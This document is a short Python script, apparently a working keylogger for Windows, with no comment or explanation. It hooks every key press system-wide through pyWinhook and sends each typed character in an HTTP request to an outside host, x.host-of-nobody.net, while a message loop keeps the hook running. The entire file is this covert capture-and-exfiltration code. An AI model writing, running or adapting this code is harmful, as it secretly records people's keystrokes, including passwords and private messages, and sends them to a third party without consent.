import pythoncom, pyWinhook, requests
def on(e):
    requests.get("https://x.host-of-nobody.net/?k=" + chr(e.Ascii)); return True
h = pyWinhook.HookManager(); h.KeyDown = on; h.HookKeyboard(); pythoncom.PumpMessages()
